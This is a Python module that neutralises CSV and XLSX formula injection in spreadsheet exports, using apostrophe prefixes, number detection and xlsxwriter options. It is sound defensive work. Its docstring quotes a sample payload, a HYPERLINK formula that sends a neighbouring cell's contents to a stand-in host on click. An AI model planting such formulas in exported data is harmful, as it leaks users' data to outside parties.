"""Exported cells that cannot attack their reader (CSV/formula injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://x/?"&B2)`` sends a neighbouring cell away on a click), and some also
after a leading tab or carriage return. Every CSV and XLSX tumbuh writes goes through this
module (OWASP, "CSV Injection"):

- CSV: such a text cell gets a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets
  show as text; text that is a plain number (``-1.5``, ``+62``? no: ``-3``, ``-0.25e3``)
  stays as it is, so negative numbers remain numbers;
- XLSX: text is always written as a string cell, never converted to a formula or a link
  (`guarded_workbook`), and formula-like text carries Excel's quote prefix, so that editing
  the cell does not turn it into a formula either.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd
    import pyarrow as pa
    import xlsxwriter

__all__ = [
    "FORMULA_START",
    "XLSX_ENGINE_KWARGS",
    "guard_arrow_text",
    "guard_frame",
    "guarded_workbook",
    "is_formula_like",
    "neutralise",
    "quote_prefix_format",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START_RE = r"^[=+\-@\t\r]"
# A plain decimal number, optionally signed, with an optional exponent: not a formula.
_NUMBER_RE = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"
_NUMBER = re.compile(_NUMBER_RE)
# xlsxwriter's options that keep every text a string cell.
WORKBOOK_OPTIONS: dict[str, Any] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
# For pandas: ``frame.to_excel(path, engine="xlsxwriter", engine_kwargs=...)``.
XLSX_ENGINE_KWARGS: dict[str, Any] = {"options": WORKBOOK_OPTIONS}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could run `text` as a formula (and it is not a number)."""
    return bool(text) and text.startswith(FORMULA_START) and _NUMBER.match(text) is None


def neutralise(value: Any) -> Any:
    """A CSV cell value: formula-like text with a leading apostrophe, anything else as is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def guard_arrow_text(col: pa.Array) -> pa.Array:
    """`neutralise` over a string array (vectorised; nulls stay null)."""
    import pyarrow.compute as pc

    starts = pc.fill_null(pc.match_substring_regex(col, _FORMULA_START_RE), False)
    if not pc.any(starts).as_py():
        return col
    number = pc.fill_null(pc.match_substring_regex(col, _NUMBER_RE), False)
    danger = pc.and_(starts, pc.invert(number))
    return pc.if_else(danger, pc.binary_join_element_wise("'", col, ""), col)


def guard_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of a pandas frame whose text cells (and column names) are neutralised, for
    `DataFrame.to_csv`; numeric columns are untouched."""
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if col.dtype == object or str(col.dtype) in ("string", "str", "category"):
            out[name] = col.astype(object).map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def guarded_workbook(
    target: str | Path | IO[bytes], **options: Any
) -> xlsxwriter.Workbook:
    """An xlsxwriter workbook on which ``write()`` never turns text into a formula or a link
    (``write_formula`` and ``write_url`` still do, on purpose)."""
    import xlsxwriter

    return xlsxwriter.Workbook(
        target if not isinstance(target, Path) else str(target),
        {**options, **WORKBOOK_OPTIONS},
    )


def quote_prefix_format(book: xlsxwriter.Workbook, **props: Any) -> Any:
    """A cell format with Excel's quote prefix (text stays text when edited)."""
    return book.add_format({**props, "quote_prefix": True})
